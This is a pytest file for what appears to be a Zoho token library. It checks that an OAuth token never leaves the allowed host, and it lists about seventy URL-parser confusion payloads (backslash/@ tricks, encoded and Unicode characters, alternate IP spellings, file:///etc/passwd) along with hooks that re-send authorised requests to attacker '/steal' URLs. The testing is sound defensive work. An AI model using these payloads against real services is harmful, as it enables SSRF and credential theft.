"""The access token goes only to Zoho: URL forms that parsers read differently, and hooks.

Every URL form of the table is given to ``session.get`` as an app would pass a URL it did
not build (a "next page" link, a form's value). Two listeners on 127.0.0.1 record where the
requests went (:mod:`tests.api.wiretap`):

* **directly**, with an attacker's server on another port of 127.0.0.1 (``{E}``) beside the
  fake Zoho (``{Z}``, the one allowed host): nothing may reach the attacker;
* **through a recording proxy**, with the attacker's host a name (``evil.example``, never
  resolved: the proxy receives the request): every token the proxy sees must be bound for
  the fake Zoho, and no tunnel may be opened to anywhere.

Each form's expected outcome is asserted too: refused before sending
(``UntrustedHostError``), or sent to the fake Zoho.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
import requests
from requests.adapters import HTTPAdapter

from tests.api.conftest import connect
from tests.api.wiretap import Wiretap
from zoho_tokens.api.session import ZohoSession, session_for
from zoho_tokens.exceptions import UntrustedHostError
from zoho_tokens.testing import FakeZoho

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("crm_and_books_services")]

REFUSED, SENT = "refused", "sent to Zoho"

#: (name, URL template, outcome). ``{Z}``: the fake Zoho's host:port; ``{zh}``/``{zp}``: its
#: host and port; ``{E}``: the attacker's host[:port]; ``{eh}``/``{ep}``: its host and port;
#: ``{eh_*}``: the attacker's host spelled with other dots.
FORMS: list[tuple[str, str, str]] = [
    ("the allowed host", "http://{Z}/crm/v8/org", SENT),
    ("a relative path", "org", SENT),
    ("a scheme-relative URL stays a path", "//{E}/org", SENT),
    ("a relative path starting with @", "@{E}/org", SENT),
    ("backslashes in a relative path", "\\\\{E}\\org", SENT),
    ("another host", "http://{E}/crm/v8/org", REFUSED),
    ("backslash before @", "http://{E}\\@{Z}/crm/v8/org", REFUSED),
    ("backslash after the allowed host", "http://{Z}\\@{E}/crm/v8/org", REFUSED),
    ("backslash as a slash", "http://{E}\\{Z}/crm/v8/org", REFUSED),
    ("backslashes for slashes", "http:\\\\{E}\\crm", REFUSED),
    ("user info before another host", "http://{Z}@{E}/crm/v8/org", REFUSED),
    ("user and password", "http://user:pw@{Z}/crm/v8/org", REFUSED),
    ("empty user info", "http://@{E}/", REFUSED),
    ("user info ending in a colon", "http://{Z}:@{E}/", REFUSED),
    ("port then user info", "http://{zh}:{zp}@{E}/", REFUSED),
    ("fragment before @", "http://{E}#@{Z}/crm/v8/org", REFUSED),
    ("query before @", "http://{E}?@{Z}/crm/v8/org", REFUSED),
    ("path before @", "http://{E}/@{Z}/crm/v8/org", REFUSED),
    ("the allowed host then a fragment with @", "http://{Z}#@{E}/", SENT),
    ("the allowed host then a query with @", "http://{Z}?@{E}", SENT),
    ("two @ and a fragment", "http://{E}&@{Z}# @{Z}/", REFUSED),
    ("escaped @", "http://{Z}%40{E}/", REFUSED),
    ("escaped slash before @", "http://{E}%2f@{Z}/", REFUSED),
    ("escaped backslash before @", "http://{E}%5c@{Z}/", REFUSED),
    ("doubly escaped @", "http://{E}%2540{Z}/", REFUSED),
    ("escaped digits of the allowed host", "http://%31%32%37.0.0.1:{zp}/crm/v8/org", REFUSED),
    ("tab before @", "http://{E}\t@{Z}/crm/v8/org", REFUSED),
    ("tab after the allowed host", "http://{Z}\t@{E}/", REFUSED),
    ("newline before @", "http://{E}\n@{Z}/", REFUSED),
    ("CRLF before @", "http://{E}\r\n@{Z}/", REFUSED),
    ("NUL after the allowed host", "http://{Z}\x00@{E}/", REFUSED),
    ("a space inside the host", "http://{E} @{Z}/", REFUSED),
    ("leading space", " http://{E}/", REFUSED),
    ("leading tab", "\thttp://{E}/", REFUSED),
    ("trailing newline", "http://{E}/\n", REFUSED),
    ("ideographic full stops", "http://{eh_ideographic}:{ep}/", REFUSED),
    ("full-width full stops", "http://{eh_fullwidth}:{ep}/", REFUSED),
    ("half-width ideographic full stops", "http://{eh_halfwidth}:{ep}/", REFUSED),
    (
        "full-width letters",
        "http://\uff4c\uff4f\uff43\uff41\uff4c\uff48\uff4f\uff53\uff54:{ep}/",
        REFUSED,
    ),
    ("full-width solidus before @", "http://{E}\uff0f@{Z}/", REFUSED),
    ("full-width @", "http://{Z}\uff20{E}/", REFUSED),
    ("zero-width space in the host", "http://{zh}\u200b:{zp}/crm/v8/org", REFUSED),
    ("IPv6 loopback", "http://[::1]:{ep}/", REFUSED),
    ("IPv4-mapped IPv6", "http://[::ffff:127.0.0.1]:{ep}/", REFUSED),
    ("IPv6 zone", "http://[::1%25lo]:{ep}/", REFUSED),
    ("a name in brackets", "http://[{eh}]:{ep}/", REFUSED),
    ("another port", "http://{zh}:{ep}/", REFUSED),
    ("two ports", "http://{zh}:{zp}:{ep}/", REFUSED),
    ("port past 65535", "http://{zh}:{zp_wrapped}/crm/v8/org", REFUSED),
    ("signed port", "http://{zh}:+{zp}/crm/v8/org", REFUSED),
    ("empty port", "http://{zh}:/crm/v8/org", REFUSED),
    ("port and letters", "http://{zh}:{zp}abc@{E}/", REFUSED),
    ("trailing dot on the allowed host", "http://{zh}.:{zp}/crm/v8/org", REFUSED),
    ("trailing dot on another host", "http://{eh}.:{ep}/", REFUSED),
    ("upper-case scheme", "HTTP://{Z}/crm/v8/org", SENT),
    ("upper-case other host", "HTTP://{E_upper}/", REFUSED),
    ("mixed-case localhost", "http://LocalHost:{ep}/", REFUSED),
    ("https to the allowed host", "https://{Z}/crm/v8/org", REFUSED),
    ("https to another host", "https://{E}/", REFUSED),
    ("ftp", "ftp://{E}/", REFUSED),
    ("file", "file:///etc/passwd", REFUSED),
    ("one slash", "http:/{E}/", REFUSED),
    ("no slash", "http:{E}/", REFUSED),
    ("three slashes", "http:///{E}/", REFUSED),
    ("websocket", "ws://{E}/", REFUSED),
    ("javascript", "javascript:alert(1)", REFUSED),
    ("a decimal address", "http://2130706433:{ep}/", REFUSED),
    ("a hexadecimal address", "http://0x7f000001:{ep}/", REFUSED),
    ("a short address", "http://127.1:{ep}/", REFUSED),
    ("an octal address", "http://0177.0.0.1:{ep}/", REFUSED),
    ("localhost", "http://localhost:{ep}/", REFUSED),
    ("the allowed host as a subdomain", "http://{zh}.{eh}:{ep}/", REFUSED),
    ("a very long host", "http://" + "a" * 5000 + ".example/", REFUSED),
]

EXPECTED = {name: outcome for name, _, outcome in FORMS}


def _values(zoho: str, evil_host: str, evil_port: int) -> dict[str, str]:
    zoho_host, zoho_port = zoho.rsplit(":", 1)
    evil = evil_host if evil_port == 80 else f"{evil_host}:{evil_port}"
    return {
        "Z": zoho,
        "zh": zoho_host,
        "zp": zoho_port,
        "zp_wrapped": str(int(zoho_port) + 65536),
        "E": evil,
        "E_upper": evil.upper(),
        "eh": evil_host,
        "ep": str(evil_port),
        "eh_ideographic": evil_host.replace(".", "\u3002"),
        "eh_fullwidth": evil_host.replace(".", "\uff0e"),
        "eh_halfwidth": evil_host.replace(".", "\uff61"),
    }


def _fill(template: str, values: dict[str, str]) -> str:
    for name in sorted(values, key=len, reverse=True):
        template = template.replace("{" + name + "}", values[name])
    return template


def _outcome(session: ZohoSession, url: str, reached: Any, **kwargs: Any) -> str:
    """What became of one URL: refused, sent to Zoho, or another failure (named)."""
    before = reached()
    try:
        session.get(url, **kwargs)
    except UntrustedHostError:
        return REFUSED
    except Exception as err:  # a refusal of another kind, or Zoho's 404 for a path
        if reached() == before:
            return f"not sent ({type(err).__name__})"
    return SENT if reached() > before else "not sent"


@pytest.fixture
def attacker() -> Iterator[Wiretap]:
    """An attacker's server on 127.0.0.1, beside the fake Zoho."""
    with Wiretap() as tap:
        yield tap


def test_no_url_form_reaches_another_host(fake_zoho: FakeZoho, attacker: Wiretap) -> None:
    session = session_for(connect(fake_zoho, "alice"), "crm")
    values = _values(fake_zoho.url.split("://")[1], "127.0.0.1", attacker.port)

    def reached() -> int:
        return len(fake_zoho.requests)

    outcomes = {name: _outcome(session, _fill(url, values), reached) for name, url, _ in FORMS}

    assert attacker.seen == []
    assert outcomes == EXPECTED


def test_through_a_proxy_every_token_is_bound_for_zoho(fake_zoho: FakeZoho) -> None:
    session = session_for(connect(fake_zoho, "alice"), "crm")
    values = _values(fake_zoho.url.split("://")[1], "evil.example", 80)

    with Wiretap() as proxy:
        proxies = {"http": proxy.url, "https": proxy.url}

        def reached() -> int:
            return sum(seen.target.startswith(fake_zoho.url + "/") for seen in proxy.seen)

        outcomes = {
            name: _outcome(session, _fill(url, values), reached, proxies=proxies)
            for name, url, _ in FORMS
        }
        elsewhere = proxy.tokens_sent_elsewhere(fake_zoho.url)
        carried = [seen.authorization for seen in proxy.seen]

    assert elsewhere == []
    assert outcomes == EXPECTED
    assert {(token or "").split(" ")[0] for token in carried} == {"Zoho-oauthtoken"}


def test_a_url_given_as_bytes_is_read_the_same_way(fake_zoho: FakeZoho, attacker: Wiretap) -> None:
    session = session_for(connect(fake_zoho, "alice"), "crm")

    with pytest.raises(UntrustedHostError):
        session.get(f"http://127.0.0.1:{attacker.port}\\@{fake_zoho.url[7:]}/".encode())

    assert attacker.seen == []


# -- hooks and adapters: the request actually sent is checked --------------------------------


def _resend_to(url: str, through_session: ZohoSession | None = None) -> Any:
    """A response hook that sends the request (with its Authorization) again to ``url``,
    through the answer's adapter (``r.connection``) or through the session."""

    def hook(response: requests.Response, **kwargs: Any) -> requests.Response:
        again = response.request.copy()
        again.url = url
        if through_session is not None:
            return through_session.send(again, **kwargs)
        return response.connection.send(again, **kwargs)

    return hook


@pytest.mark.parametrize("form", ["http://{E}/steal", "http://{E}\\@{Z}/crm/v8/org"])
def test_a_hook_resending_through_the_connection_is_refused(
    fake_zoho: FakeZoho, attacker: Wiretap, form: str
) -> None:
    session = session_for(connect(fake_zoho, "alice"), "crm")
    url = _fill(form, _values(fake_zoho.url[7:], "127.0.0.1", attacker.port))

    with pytest.raises(UntrustedHostError):
        session.get("org", hooks={"response": _resend_to(url)})

    assert attacker.seen == []


def test_a_session_hook_resending_through_the_session_is_refused(
    fake_zoho: FakeZoho, attacker: Wiretap
) -> None:
    session = session_for(connect(fake_zoho, "alice"), "crm")
    session.hooks["response"].append(_resend_to(f"{attacker.url}/steal", session))

    with pytest.raises(UntrustedHostError):
        session.get("org")

    assert attacker.seen == []


def test_an_adapter_mounted_by_the_caller_is_guarded_too(
    fake_zoho: FakeZoho, attacker: Wiretap
) -> None:
    session = session_for(connect(fake_zoho, "alice"), "crm")
    session.mount("http://", HTTPAdapter(max_retries=2))

    with pytest.raises(UntrustedHostError):
        session.get("org", hooks={"response": _resend_to(f"{attacker.url}/steal")})

    assert attacker.seen == []


def test_a_session_whose_preparation_rewrites_the_url_is_refused(
    fake_zoho: FakeZoho, attacker: Wiretap
) -> None:
    class Rewriting(ZohoSession):
        def prepare_request(self, request: requests.Request) -> requests.PreparedRequest:
            prepared = super().prepare_request(request)
            prepared.url = f"{attacker.url}/steal"
            return prepared

    row = connect(fake_zoho, "alice")
    session = Rewriting(row, session_for(row, "crm").service)

    with pytest.raises(UntrustedHostError):
        session.get("org")

    assert attacker.seen == []


def test_the_allowed_host_still_answers_through_a_hook(fake_zoho: FakeZoho) -> None:
    session = session_for(connect(fake_zoho, "alice"), "crm")

    response = session.get("users", hooks={"response": _resend_to(f"{fake_zoho.url}/crm/v8/org")})

    assert response.json()["org"][0]["primary_email"] == "alice@zoho.example"
